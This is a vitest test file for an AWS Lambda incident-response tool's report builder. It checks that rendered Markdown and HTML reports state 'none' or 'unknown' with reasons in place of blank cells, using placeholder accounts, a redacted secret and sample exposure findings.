import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { CaseHandle } from '../../../src/core/case/case-folder.js'
import { buildReportModel } from '../../../src/core/report/build.js'
import { escapeMarkdown } from '../../../src/core/report/escape.js'
import type { ReportModel } from '../../../src/core/report/model.js'
import { renderReport } from '../../../src/core/report/render.js'
import { analyseExposure } from '../../../src/core/snapshot/exposure.js'
import type { ExposureEntry, FunctionSummary } from '../../../src/core/snapshot/types.js'
import { tempDir } from '../../support/cli.js'
import { nothingFound } from '../../support/function-summary.js'
import { buildSampleCase, recordCaseFile } from '../../support/sample-case.js'

/**
 * What a responder reads in the report must be true and never blank: an empty cell reads like a
 * rendering bug at 3 a.m. A fact that is absent says so ("none published ($LATEST only)"); a fact
 * the snapshot could not read (a gap) says "unknown: <reason>", never "none".
 */

const ACCOUNT = '123456789012'
const REGION = 'us-east-1'
const FN = 'billing-export'
const FN_ARN = `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${FN}`
const ROLE = 'billing-export-role'
const ROLE_ARN = `arn:aws:iam::${ACCOUNT}:role/${ROLE}`
const DENIED_ALIASES = 'denied: AccessDeniedException: User is not authorized to perform: lambda:ListAliases'

/** A function summary as the snapshot writes it for a plain function: no versions, aliases, layers… */
/** A resource-policy statement that lets everyone call the function's URL (the snapshot's exposure entry). */
const PUBLIC_URL_STATEMENT: ExposureEntry = {
  kind: 'resource-policy',
  qualifiers: ['$LATEST'],
  level: 'high',
  summary: 'statement pub allows everyone (lambda:InvokeFunctionUrl)',
  sid: 'pub',
  principal: '*',
  actions: ['lambda:InvokeFunctionUrl'],
}

/** The summary's line on how the function can be reached from outside the account. */
const exposureLine = (m: ReportModel) => m.summary.impact.find((l) => l.includes('from outside the account'))

function plainEntry(overrides: Partial<FunctionSummary> = {}): FunctionSummary {
  return {
    name: FN,
    arn: FN_ARN,
    region: REGION,
    account: ACCOUNT,
    qualifier: '$LATEST',
    runtime: 'nodejs20.x',
    packageType: 'Zip',
    lastModified: '2026-11-28T23:55:54.780196000Z',
    codeSha256: 'XFhKzm9KqOtyLeV8S4/8xXD5ZUssc6pC3I81KyFdIb0=',
    code: 'match',
    role: ROLE_ARN,
    roleName: ROLE,
    ...nothingFound(),
    logGroup: { name: `/aws/lambda/${FN}`, events: 4, truncated: false, present: true },
    trailCoverage: { lambdaDataEvents: 'recorded', trails: ['org-trail'] },
    ...overrides,
  }
}

/**
 * A case with one sealed snapshot set, written through the real case APIs: GetFunction of $LATEST
 * (with the given environment), summary.json with the given entry, findings.json.
 */
async function snapshotCase(
  entry: FunctionSummary,
  options: {
    environment?: Record<string, unknown>
    setGaps?: FunctionSummary['gaps']
    findings?: Record<string, unknown>[]
    /** When the snapshot was taken (default 2026-11-28T23:55:54.501Z). */
    takenAt?: string
    /** More responses the set holds (a role's GetRole, say), each with the call it came from. */
    files?: { rel: string; body: Record<string, unknown>; call: string; target: string }[]
  } = {},
): Promise<string> {
  const handle = await CaseHandle.init('FACTS-1', {
    title: 'Facts',
    dir: join(await tempDir(), 'c'),
    firVersion: 't',
  })
  await handle.close()
  await addSnapshot(handle.dir, entry, options)
  return handle.dir
}

/** Seals one more snapshot set of the function into the case at `dir`, as {@link snapshotCase} does. */
async function addSnapshot(
  dir: string,
  entry: FunctionSummary,
  options: Parameters<typeof snapshotCase>[1] = {},
): Promise<void> {
  const handle = await CaseHandle.open(dir)
  try {
    const set = await handle.newEvidenceSet()
    await set.writeJson(
      `functions/${FN}/get-function.$LATEST.json`,
      {
        Configuration: {
          FunctionName: FN,
          FunctionArn: FN_ARN,
          Runtime: entry.runtime,
          Role: ROLE_ARN,
          ...(options.environment ? { Environment: options.environment } : {}),
        },
      },
      { call: 'lambda:GetFunction', target: FN_ARN, region: REGION },
    )
    for (const f of options.files ?? [])
      await set.writeJson(f.rel, f.body, { call: f.call, target: f.target, region: REGION })
    await set.writeJson('findings.json', options.findings ?? [], { call: 'fir:findings', target: set.name })
    await set.writeJson(
      'summary.json',
      {
        takenBy: { arn: `arn:aws:sts::${ACCOUNT}:assumed-role/IR/alice`, account: ACCOUNT },
        takenAt: options.takenAt ?? '2026-11-28T23:55:54.501Z',
        region: REGION,
        firVersion: 't',
        set: set.name,
        functions: [entry],
        gaps: options.setGaps ?? [],
      },
      { call: 'fir:summary', target: set.name },
    )
    await set.seal({ functions: [FN] }, FN_ARN)
  } finally {
    await handle.close()
  }
}

/** The cell of a `| Fact | Value |` row of the Markdown report. */
function factCell(md: string, fact: string): string {
  const row = md.split('\n').find((l) => l.startsWith(`| ${fact} |`))
  expect(row, `row ${fact}`).toBeDefined()
  return row!.slice(`| ${fact} | `.length).replace(/ \|$/, '')
}

/** No Markdown table cell is blank. */
function expectNoBlankMarkdownCells(md: string): void {
  const blank = md.split('\n').filter((l) => l.startsWith('|') && /\|\s*\|/.test(l.replace(/\\\|/g, 'x')))
  expect(blank, 'Markdown rows with a blank cell').toEqual([])
}

/** No HTML table cell or definition is blank (the stylesheet's "—" fallback is not an answer). */
function expectNoBlankHtmlCells(html: string): void {
  expect(html.match(/<(td|dd)[^>]*>\s*<\/\1>/g) ?? [], 'blank HTML cells').toEqual([])
  expect(html.match(/<span[^>]*>\s*<\/span>/g) ?? [], 'blank HTML spans').toEqual([])
}

const PLACEHOLDERS = /undefined|\bnull\b|\[object Object\]|\bNaN\b/

async function renderBoth(model: ReportModel): Promise<{ md: string; html: string }> {
  return {
    md: await renderReport(model, { format: 'md' }),
    html: await renderReport(model, { format: 'html' }),
  }
}

describe('function facts that have no value', () => {
  it('say what is true instead of leaving the cell blank', async () => {
    const dir = await snapshotCase(plainEntry(), {
      environment: { Variables: { TABLE: 'billing', LOG_LEVEL: 'info', REGION: 'us-east-1' } },
    })
    const model = await buildReportModel(dir, { verify: false })
    const { md, html } = await renderBoth(model)
    expect(factCell(md, 'Versions')).toBe('none published ($LATEST only)')
    expect(factCell(md, 'Aliases')).toBe('none')
    expect(factCell(md, 'Layers')).toBe('none')
    expect(factCell(md, 'Function URL')).toBe('none')
    expect(factCell(md, 'Exposure')).toMatch(/^none found: no public function URL/)
    expect(factCell(md, 'Secret-looking values')).toBe('none found in the environment (3 variables checked)')
    expect(factCell(md, 'Access key ids')).toBe('none found in the environment (3 variables checked)')
    expect(factCell(md, 'Event sources')).toBe('none')
    expect(factCell(md, 'Description')).toBe('none')
    expect(factCell(md, 'Reserved concurrency')).toBe('none (unreserved)')
    // Lambda's LastModified is shown as every other time in the report.
    expect(factCell(md, 'Last modified')).toBe('2026-11-28 23:55:54 UTC')
    expect(html).toContain('<span class="muted">none published ($LATEST only)</span>')
    expect(html).not.toContain('class="unknown"')
    for (const text of [md, html]) expect(text).not.toMatch(PLACEHOLDERS)
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('say "unknown" with the reason when the snapshot could not read them, never "none"', async () => {
    const gap = (what: string, call: string, reason: string) => ({ what, call, reason })
    const dir = await snapshotCase(
      plainEntry({
        logGroup: { name: `/aws/lambda/${FN}`, events: 0, truncated: false, present: null },
        trailCoverage: { lambdaDataEvents: 'unknown', trails: [] },
        gaps: [
          gap(`versions of ${FN}`, 'lambda:ListVersionsByFunction', 'throttled: TooManyRequestsException'),
          gap(`aliases of ${FN}`, 'lambda:ListAliases', DENIED_ALIASES),
          gap(`reserved concurrency of ${FN}`, 'lambda:GetFunctionConcurrency', 'denied: AccessDenied'),
          gap(`event source mappings of ${FN}`, 'lambda:ListEventSourceMappings', 'server-error: HTTP 500'),
          gap(`resource policy ($LATEST) of ${FN}`, 'lambda:GetPolicy', 'denied: AccessDenied'),
          gap(`log group /aws/lambda/${FN}`, 'logs:FilterLogEvents', 'denied: AccessDeniedException'),
          gap(
            `inline policy p of role ${ROLE}`,
            'iam:GetRolePolicy',
            'denied: AccessDenied on GetRolePolicy',
          ),
        ],
      }),
      {
        environment: { Error: { ErrorCode: 'KMSAccessDeniedException', Message: 'no kms:Decrypt' } },
        setGaps: [gap(`trails of ${REGION}`, 'cloudtrail:DescribeTrails', 'denied: AccessDenied')],
      },
    )
    const model = await buildReportModel(dir, { verify: false })
    const { md, html } = await renderBoth(model)
    expect(factCell(md, 'Versions')).toBe(
      'unknown: throttled: TooManyRequestsException (lambda:ListVersionsByFunction)',
    )
    // The reason already names the call: it is not repeated.
    expect(factCell(md, 'Aliases')).toBe(`unknown: ${DENIED_ALIASES}`)
    // A denied GetFunctionConcurrency leaves reservedConcurrency null, as "unreserved" does.
    expect(factCell(md, 'Reserved concurrency')).toBe(
      'unknown: denied: AccessDenied (lambda:GetFunctionConcurrency)',
    )
    expect(factCell(md, 'Event sources')).toBe(
      'unknown: server-error: HTTP 500 (lambda:ListEventSourceMappings)',
    )
    expect(factCell(md, 'Exposure')).toBe(
      'none found in what was read; unknown: denied: AccessDenied (lambda:GetPolicy)',
    )
    expect(factCell(md, 'Log group')).toBe(
      `unknown: denied: AccessDeniedException (logs:FilterLogEvents) — /aws/lambda/${FN}`,
    )
    expect(factCell(md, 'Trail coverage')).toBe('unknown: denied: AccessDenied (cloudtrail:DescribeTrails)')
    expect(factCell(md, 'Secret-looking values')).toBe(
      'unknown: Lambda did not return the environment (KMSAccessDeniedException: no kms:Decrypt)',
    )
    // A role whose policies could not all be read is not "free of risky permissions".
    expect(model.roles.roles[0]!.policyGaps).toEqual([
      `inline policy p of role ${ROLE}: denied: AccessDenied on GetRolePolicy`,
    ])
    expect(md).not.toContain('The snapshot found no risky permission on this role.')
    expect(md).toContain('Unknown: the snapshot could not read every policy of this role')
    expect(html).toContain('Unknown: the snapshot could not read every policy of this role')
    // In HTML an unknown stands apart from a plain "none" (its own class, not the muted grey).
    const spans = [...html.matchAll(/<span class="(muted|unknown)">([^<]*)<\/span>/g)]
    const unknownSpans = spans.filter((m) => m[2]!.includes('unknown:'))
    expect(unknownSpans.length).toBeGreaterThanOrEqual(5)
    for (const m of unknownSpans) expect(m[1], m[2]).toBe('unknown')
    expect(html).toContain(
      '<span class="unknown">unknown: throttled: TooManyRequestsException (lambda:ListVersionsByFunction)</span>',
    )
    for (const text of [md, html]) {
      expect(text).not.toContain('none (unreserved)')
      expect(text).not.toContain('event(s) collected')
      expect(text).not.toMatch(PLACEHOLDERS)
    }
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('make everything from the configuration unknown when GetFunction itself failed', async () => {
    const dir = await snapshotCase(
      plainEntry({
        runtime: undefined,
        packageType: undefined,
        lastModified: undefined,
        codeSha256: undefined,
        role: undefined,
        roleName: undefined,
        code: 'not-downloaded',
        gaps: [
          {
            what: `configuration and code location ($LATEST) of ${FN}`,
            call: 'lambda:GetFunction',
            reason: 'denied: AccessDeniedException',
          },
        ],
      }),
    )
    const model = await buildReportModel(dir, { verify: false })
    const { md, html } = await renderBoth(model)
    const unknown = 'unknown: denied: AccessDeniedException (lambda:GetFunction)'
    for (const fact of [
      'Description',
      'Last modified',
      'Execution role',
      'Layers',
      'Secret-looking values',
    ]) {
      expect(factCell(md, fact)).toBe(unknown)
    }
    expect(factCell(md, 'Runtime / package')).toBe(unknown)
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('say the code changed while it was snapshotted, from which CodeSha256 to which, not that it mismatched', async () => {
    const from = 'ly/qMhPgnfN6j7RFhspdIlrB4cclnO8ijftGEFyjOBY='
    const to = 'I3fRBTE7R7HiaqUfwlU4+BNbGfw2kaglJpVaXa0mqvM='
    const dir = await snapshotCase(
      plainEntry({
        codeSha256: from,
        code: 'changed',
        codeChange: { from, to, at: '2026-03-12T10:00:05.000Z' },
      }),
    )
    const model = await buildReportModel(dir, { verify: false })
    const fn = model.scope.functions[0]!
    expect(fn.codeCheck).toBe(
      `CODE CHANGED while fir read it: CodeSha256 ${from} became ${to} (2026-03-12 10:00:05 UTC); the package of ${to} was downloaded and matches it; the package of ${from} could not be read whole`,
    )
    expect(model.summary.impact.find((l) => l.includes('changed while it was snapshotted'))).toContain(
      `CodeSha256 ${from} became ${to}`,
    )
    expect(model.summary.impact.some((l) => l.includes('does not match the CodeSha256'))).toBe(false)
  })

  it('show published versions, aliases with routing, why a layer was not downloaded and which qualifiers run it', async () => {
    const layer = `arn:aws:lambda:${REGION}:999999999999:layer:perf-utils:3`
    const dir = await snapshotCase(
      plainEntry({
        versions: [
          { version: '1', code: 'match' },
          { version: '2', code: 'mismatch' },
        ],
        aliases: [{ name: 'live', version: '2', routing: { '1': 0.1 } }],
        layers: [{ arn: layer, code: 'not-downloaded', qualifiers: ['2', 'live'] }],
        gaps: [
          {
            what: `layer content of ${layer}`,
            call: 'lambda:GetLayerVersion',
            reason: 'unavailable: Content.Location is "s3://", not a downloadable URL',
          },
        ],
      }),
    )
    const fn = (await buildReportModel(dir, { verify: false })).scope.functions[0]!
    expect(fn.versions).toEqual(['1', '2 (code MISMATCH)'])
    expect(fn.aliases).toEqual(['live → 2 (routing: 1 10%)'])
    expect(fn.layers).toEqual([
      `${layer} (content not downloaded: unavailable: Content.Location is "s3://", not a downloadable URL; 2, live)`,
    ])
    expect(fn.absent).toMatchObject({ versions: null, aliases: null, layers: null })
  })
})

describe('layers of qualifiers whose configuration was not read', () => {
  // A backdoored layer may sit on one version only: a version the snapshot could not read runs
  // layers nobody knows, and the report says so rather than "none".
  it('are unknown, named with those qualifiers and why, beside the layers that were read', async () => {
    const layer = `arn:aws:lambda:${REGION}:${ACCOUNT}:layer:utils:1`
    const denied = 'denied: AccessDeniedException: User is not authorized to perform: lambda:GetFunction'
    const read = await snapshotCase(
      plainEntry({
        layers: [{ arn: layer, code: 'match', qualifiers: ['$LATEST'] }],
        unreadConfigurations: [{ reason: denied, qualifiers: ['3', '4'] }],
      }),
    )
    const fn = (await buildReportModel(read, { verify: false })).scope.functions[0]!
    expect(fn.layers).toEqual([
      expect.stringContaining(layer),
      `unknown on 3, 4: configuration not read (${denied})`,
    ])
    const none = await snapshotCase(
      plainEntry({ unreadConfigurations: [{ reason: denied, qualifiers: ['7'] }] }),
    )
    const other = (await buildReportModel(none, { verify: false })).scope.functions[0]!
    expect(other.layers).toEqual([`unknown on 7: configuration not read (${denied})`])
    expect(other.absent.layers).toBeNull()
  })
})

describe("exposure where some qualifiers' resource policies were not read", () => {
  // A version or alias deleted while the snapshot read it: Lambda answers "Function not found" where
  // it would say "no policy". Exposure found on the others is not all there is.
  it('is listed, then said unknown on those qualifiers with why; an empty list says the same', async () => {
    const gone =
      'not-found: ResourceNotFoundException: Function not found: arn:aws:lambda:us-east-1:123456789012:function:billing-export:live'
    const exposed = plainEntry({
      qualifier: 'live',
      exposure: [
        {
          kind: 'resource-policy',
          qualifiers: ['$LATEST', '1', '2'],
          level: 'critical',
          summary: 'statement pub allows any principal (*)',
          sid: 'pub',
          principal: '*',
        },
      ],
      unreadPolicies: [{ reason: gone, qualifiers: ['live', '3'] }],
      gaps: [
        { what: `resource policy (live) of ${FN}`, call: 'lambda:GetPolicy', reason: gone },
        { what: `resource policy (3) of ${FN}`, call: 'lambda:GetPolicy', reason: gone },
      ],
    })
    const model = await buildReportModel(await snapshotCase(exposed), { verify: false })
    const fn = model.scope.functions[0]!
    expect(fn.exposure).toEqual(['statement pub allows any principal (*)'])
    expect(fn.exposureUnknown).toBe(`unknown on live, 3: resource policy not read (${gone})`)
    const { md, html } = await renderBoth(model)
    expect(factCell(md, 'Exposure')).toMatch(
      /^statement pub allows any principal \(\\\*\)<br>unknown on live, 3: resource policy not read \(not-found: /,
    )
    expect(html).toContain(
      '<br><span class="unknown">unknown on live, 3: resource policy not read (not-found: ',
    )
    // Nothing found where the policies were read: the same qualifiers, never "none found".
    const none = await snapshotCase({ ...exposed, exposure: [] })
    const other = (await buildReportModel(none, { verify: false })).scope.functions[0]!
    expect(other.exposureUnknown).toBeNull()
    expect(other.absent.exposure).toBe(
      `none found in what was read; unknown on live, 3: resource policy not read (${gone})`,
    )
    // A summary written before unreadPolicies: the gaps still say it, after what was found.
    const older = await snapshotCase({ ...exposed, unreadPolicies: undefined as never })
    const old = (await buildReportModel(older, { verify: false })).scope.functions[0]!
    expect(old.exposureUnknown).toMatch(
      /^others unknown: not-found: .* \(lambda:GetPolicy\); and 1 more gap$/,
    )
  })
})

describe('function facts the snapshot read beyond the summarised qualifier', () => {
  it("show every function URL with its AuthType and qualifiers, provisioned concurrency, a version read from the version list and another qualifier's unread environment", async () => {
    const live = 'https://live7h2k4m9q3x5w8z1c6v0b2n4m7.lambda-url.us-east-1.on.aws/'
    const latest = 'https://latest3c5v7b9n1m2k4j6h8g0f2d4s6.lambda-url.us-east-1.on.aws/'
    const denied = 'denied: AccessDeniedException: User is not authorized to perform: lambda:GetFunction'
    const dir = await snapshotCase(
      plainEntry({
        qualifier: 'live',
        versions: [
          { version: '1', code: 'match' },
          { version: '2', code: 'not-downloaded', configuration: 'version-list' },
        ],
        aliases: [{ name: 'live', version: '1' }],
        url: { url: live, authType: 'NONE', qualifiers: ['live'] },
        urls: [
          { url: live, authType: 'NONE', qualifiers: ['live'] },
          { url: latest, authType: 'AWS_IAM', qualifiers: ['$LATEST'] },
        ],
        provisionedConcurrency: [
          { qualifier: 'live', requested: 50, allocated: 20, available: 20, status: 'IN_PROGRESS' },
        ],
        environmentErrors: [{ error: denied, qualifiers: ['old'] }],
      }),
    )
    const model = await buildReportModel(dir, { verify: false })
    const fn = model.scope.functions[0]!
    expect(fn.url).toBe(`${live} (AuthType NONE; live)`)
    expect(fn.urls).toEqual([`${live} (AuthType NONE; live)`, `${latest} (AuthType AWS_IAM; $LATEST)`])
    expect(fn.provisionedConcurrency).toEqual(['50 on live (IN_PROGRESS; 20 allocated)'])
    expect(fn.versions).toEqual(['1', '2 (configuration from the version list; code not read)'])
    expect(fn.absent.secrets).toBe(
      `none found in the environment; unknown: Lambda did not return the environment (${denied}) for old`,
    )
    const { md, html } = await renderBoth(model)
    expect(factCell(md, 'Function URL')).toBe(fn.urls.map(escapeMarkdown).join('<br>'))
    expect(factCell(md, 'Provisioned concurrency')).toBe(escapeMarkdown(fn.provisionedConcurrency[0]))
    expect(html).toContain(`<span class="mono">${latest} (AuthType AWS_IAM; $LATEST)</span>`)
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('say "none" of provisioned concurrency read and empty, "unknown" when it was not read, and "not recorded" for an older snapshot', async () => {
    const cell = async (entry: FunctionSummary) =>
      factCell(
        await renderReport(await buildReportModel(await snapshotCase(entry), { verify: false }), {
          format: 'md',
        }),
        'Provisioned concurrency',
      )
    expect(await cell(plainEntry())).toBe('none')
    expect(
      await cell(
        plainEntry({
          provisionedConcurrency: null,
          gaps: [
            {
              what: `provisioned concurrency of ${FN}`,
              call: 'lambda:ListProvisionedConcurrencyConfigs',
              reason: 'denied: AccessDenied',
            },
          ],
        }),
      ),
    ).toBe('unknown: denied: AccessDenied (lambda:ListProvisionedConcurrencyConfigs)')
    const { provisionedConcurrency: _p, urls: _u, images: _i, ...older } = plainEntry()
    expect(await cell(older as FunctionSummary)).toBe('not recorded by this snapshot')
  })
})

describe('other values that could be blank', () => {
  it('snapshot findings say when the snapshot saw them, without repeating the title or level', async () => {
    const summary = 'statement Public allows any principal (*)'
    const dir = await snapshotCase(plainEntry(), {
      findings: [
        {
          id: 'F-1',
          kind: 'public-statement',
          level: 'critical',
          title: `${FN}: ${summary}`,
          target: FN_ARN,
          detail: { kind: 'resource-policy', level: 'critical', summary, sid: 'Public' },
          evidence: [],
        },
        { id: 'F-2', kind: 'odd', level: 'low', title: 'A finding with nothing else', evidence: [] },
      ],
    })
    const model = await buildReportModel(dir, { verify: false })
    const [critical, odd] = model.findings.groups.flatMap((g) => g.items)
    expect(critical).toMatchObject({
      detail: 'kind=resource-policy, sid=Public',
      observedDisplay: 'snapshot 2026-11-28 23:55:54 UTC',
      first: null,
    })
    expect(odd).toMatchObject({ target: 'not recorded', detail: 'no detail recorded' })
    const { md, html } = await renderBoth(model)
    expect(md).toContain('| 1 | snapshot 2026-11-28 23:55:54 UTC |')
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('a case with only a snapshot says there is no timeline where a detection or window would be', async () => {
    const dir = await snapshotCase(plainEntry())
    const model = await buildReportModel(dir)
    expect(model.summary.firstDetectionAbsent).toBe('none: no timeline was collected')
    expect(model.evidence.integrity!.text).toMatch(/: \d+ journal entries, 1 evidence set, /)
    const { md, html } = await renderBoth(model)
    expect(md).toContain('| **Not contained** | ')
    expect(md).toMatch(/\| none: no timeline was collected \| \d{4}-/)
    expect(md).toContain('- Activity in the timeline: unknown: no timeline was collected')
    expect(html).toContain('<dt>Timeline window</dt><dd>no timeline was collected</dd>')
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('an empty case leaves no blank cell and counts one journal entry in the singular', async () => {
    const handle = await CaseHandle.init('EMPTY-2', { dir: join(await tempDir(), 'c'), firVersion: 't' })
    await handle.close()
    const model = await buildReportModel(handle.dir)
    expect(model.evidence.integrity!.text).toMatch(/: 1 journal entry, 0 evidence sets,/)
    const { md, html } = await renderBoth(model)
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
    for (const text of [md, html]) expect(text).not.toMatch(PLACEHOLDERS)
  })

  it('a case.json without a title or creator (an older case) shows no "undefined" or "?@?"', async () => {
    const handle = await CaseHandle.init('OLD-1', { dir: join(await tempDir(), 'c'), firVersion: 't' })
    await handle.close()
    const path = join(handle.dir, 'case.json')
    const { title: _t, createdBy: _c, ...meta } = JSON.parse(await readFile(path, 'utf8'))
    await writeFile(path, JSON.stringify(meta))
    const model = await buildReportModel(handle.dir, { verify: false })
    expect(model.summary.headline).toMatch(/^OLD-1: no function snapshotted yet\./)
    expect(model.case.createdBy).toBe('an unrecorded user')
    const { md, html } = await renderBoth(model)
    for (const text of [md, html]) {
      expect(text).not.toMatch(PLACEHOLDERS)
      expect(text).not.toContain('?@?')
    }
  })

  it('the full sample case, plain and hostile, leaves no blank cell in either format', async () => {
    for (const hostile of [false, true]) {
      const sample = await buildSampleCase({ parent: await tempDir(), events: 80, hostile })
      const { md, html } = await renderBoth(await buildReportModel(sample.dir, { verify: false }))
      expectNoBlankMarkdownCells(md)
      expectNoBlankHtmlCells(html)
    }
  })

  it('a timeline without events says so instead of "0 events from  to "', async () => {
    const sample = await buildSampleCase({ parent: await tempDir(), events: 10, notes: false })
    await writeFile(join(sample.dir, 'timeline', 'events.jsonl'), '')
    await writeFile(join(sample.dir, 'timeline', 'findings.json'), '[]')
    for (const rel of ['timeline/events.jsonl', 'timeline/findings.json'])
      await recordCaseFile(sample.dir, rel)
    const model = await buildReportModel(sample.dir, { verify: false })
    expect(model.summary.firstDetectionAbsent).toBe('none: the timeline holds no event')
    const { md, html } = await renderBoth(model)
    expect(md).toContain('The timeline holds no event: nothing in its window and sources matched')
    expect(md).not.toMatch(/events from\s+to/)
    expect(html).toContain('The timeline holds no event')
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })
})

describe('the timeline window', () => {
  it('ends at "now, when the timeline ran" when it is open-ended, from the timeline run, not the report', async () => {
    // Its events all before the run (below): events dated after it are another case.
    const sample = await buildSampleCase({
      parent: await tempDir(),
      events: 20,
      notes: false,
      now: new Date('2026-11-28T20:00:00Z'),
    })
    const path = join(sample.dir, 'timeline', 'summary.json')
    const summary = JSON.parse(await readFile(path, 'utf8'))
    summary.window = { since: '2026-11-21T23:55:28.000Z', until: null }
    summary.startedAt = '2026-11-28T23:55:28.400Z'
    summary.finishedAt = '2026-11-28T23:55:31.000Z'
    await writeFile(path, JSON.stringify(summary))
    await recordCaseFile(sample.dir, 'timeline/summary.json')
    const model = await buildReportModel(sample.dir, {
      verify: false,
      now: new Date('2026-12-01T08:00:00Z'),
    })
    expect(model.scope.window).toMatchObject({
      until: null,
      ranAt: '2026-11-28T23:55:28.400Z',
      text: '2026-11-21 23:55:28 UTC → now (2026-11-28 23:55:28 UTC, when the timeline ran)',
    })
    const { md, html } = await renderBoth(model)
    expect(md).toContain(
      '- Timeline window: 2026-11-21 23:55:28 UTC → now (2026-11-28 23:55:28 UTC, when the timeline ran)',
    )
    expect(html).toContain('→ now (2026-11-28 23:55:28 UTC, when the timeline ran)')
    expect(md).not.toContain('2026-12-01 08:00:00 UTC, when the timeline ran')

    // A long run (hours over an S3 trail) says when it started and when it finished.
    summary.finishedAt = '2026-11-29T02:10:00.000Z'
    await writeFile(path, JSON.stringify(summary))
    await recordCaseFile(sample.dir, 'timeline/summary.json')
    const long = await buildReportModel(sample.dir, { verify: false })
    expect(long.scope.window!.text).toBe(
      '2026-11-21 23:55:28 UTC → now (2026-11-28 23:55:28 UTC, when the timeline started; it finished 2026-11-29 02:10:00 UTC)',
    )
  })

  it('is open-ended, not "now", when the timeline holds events dated after its run, and says how many', async () => {
    const sample = await buildSampleCase({
      parent: await tempDir(),
      events: 20,
      notes: false,
      now: new Date('2026-11-28T20:00:00Z'),
    })
    const path = join(sample.dir, 'timeline', 'summary.json')
    const summary = JSON.parse(await readFile(path, 'utf8'))
    summary.window = { since: '2026-11-21T23:55:28.000Z', until: null }
    summary.startedAt = '2026-11-28T23:55:28.400Z'
    summary.finishedAt = '2026-11-28T23:55:31.000Z'
    await writeFile(path, JSON.stringify(summary))
    await recordCaseFile(sample.dir, 'timeline/summary.json')
    const events = join(sample.dir, 'timeline', 'events.jsonl')
    const lines = (await readFile(events, 'utf8')).trim().split('\n')
    const future = (time: string, id: string) => JSON.stringify({ ...JSON.parse(lines[0]!), id, time })
    await writeFile(
      events,
      `${[...lines, future('9999-12-31T23:59:59.000Z', 'f-1'), future('+275760-09-13T00:00:00.000Z', 'f-2')].join('\n')}\n`,
    )
    await recordCaseFile(sample.dir, 'timeline/events.jsonl')
    const model = await buildReportModel(sample.dir, { verify: false })
    const after =
      '2 events are dated after the timeline ran (2026-11-28 23:55:31 UTC), the latest +275760-09-13 00:00:00 UTC: a wrong clock or a forged record'
    expect(model.scope.window!.text).toBe(`2026-11-21 23:55:28 UTC → open-ended (no --until; ${after})`)
    const { md, html } = await renderBoth(model)
    expect(md).toContain(`- Timeline window: 2026-11-21 23:55:28 UTC → open-ended (no --until; ${after})`)
    expect(html).not.toContain('→ now')

    // A window whose end lies far ahead says so beside its end.
    summary.window.until = '9999-12-31T23:59:59.000Z'
    await writeFile(path, JSON.stringify(summary))
    await recordCaseFile(sample.dir, 'timeline/summary.json')
    const closed = await buildReportModel(sample.dir, { verify: false })
    expect(closed.scope.window!.text).toBe(`2026-11-21 23:55:28 UTC → 9999-12-31 23:59:59 UTC (${after})`)
  })

  it('keeps a closed window as it was asked', async () => {
    const sample = await buildSampleCase({ parent: await tempDir(), events: 20, notes: false })
    const model = await buildReportModel(sample.dir, { verify: false })
    expect(model.scope.window!.text).toMatch(
      /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC → \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/,
    )
  })
})

describe('what the snapshot showed open, against what the case did', () => {
  const KEY = 'AKIAIOSFODNN7BILLING'
  const secret = '‹redacted len=40 sha256:0123abcd›'
  /** A public function with a key pair in its environment and an SQS mapping, as the snapshot writes it. */
  const exposedCase = () =>
    snapshotCase(
      plainEntry({
        url: { url: 'https://x.lambda-url.us-east-1.on.aws/', authType: 'NONE', qualifiers: ['$LATEST'] },
        exposure: [
          {
            kind: 'function-url',
            qualifiers: ['$LATEST'],
            level: 'critical',
            summary:
              'Function URL https://x.lambda-url.us-east-1.on.aws/ with AuthType NONE: anyone can invoke it',
          },
        ],
        eventSourceMappings: [
          { uuid: 'u-1', source: 'arn:aws:sqs:us-east-1:123456789012:billing-q', state: 'Enabled' },
        ],
        secrets: [
          {
            name: 'UPLOAD_KEY_SECRET',
            redacted: secret,
            kind: 'aws-secret-access-key',
            qualifiers: ['$LATEST'],
          },
        ],
        accessKeyIds: [KEY],
      }),
      {
        findings: [
          {
            kind: 'secret-in-environment',
            level: 'high',
            title: `Environment variable UPLOAD_KEY_SECRET of ${FN} holds a secret (aws-secret-access-key): ${secret}`,
            target: FN_ARN,
            detail: { variable: 'UPLOAD_KEY_SECRET', redacted: secret },
          },
          {
            kind: 'access-key-in-environment',
            level: 'critical',
            title: `Environment variable UPLOAD_KEY_ID of ${FN} holds access key id ${KEY} with its secret in UPLOAD_KEY_SECRET: a usable long-term key`,
            target: FN_ARN,
            detail: { variable: 'UPLOAD_KEY_ID', accessKeyId: KEY, secretIn: 'UPLOAD_KEY_SECRET' },
          },
        ],
      },
    )
  const journal = async (dir: string, changes: [string, string, Record<string, unknown>?][]) => {
    const handle = await CaseHandle.open(dir)
    try {
      for (const [action, target, after] of changes)
        for (const outcome of ['started', 'applied'] as const)
          await handle.journal.append({ action, target, params: {}, outcome, ...(after ? { after } : {}) })
    } finally {
      await handle.close()
    }
  }

  /** The journal of `fir creds rotate-key` of the key in the environment (old key made Inactive). */
  const rotateKey = (dir: string) => {
    const userArn = `arn:aws:iam::${ACCOUNT}:user/billing-uploader`
    return journal(dir, [
      [
        'credentials.rotate-key',
        `${userArn}#${KEY}`,
        {
          userName: 'billing-uploader',
          userArn,
          oldKeyId: KEY,
          keys: [
            { id: KEY, status: 'Inactive' },
            { id: 'AKIAIOSFODNN7NEWKEY9', status: 'Active' },
          ],
          firKeyIds: ['AKIAIOSFODNN7NEWKEY9'],
        },
      ],
    ])
  }

  it('says a recycled function with a public URL and an enabled event source is not contained', async () => {
    // Before: "Contained: 1 measure in force, none failed" after `fir contain --actions recycle`.
    const dir = await exposedCase()
    await journal(dir, [['containment.recycle', FN_ARN]])
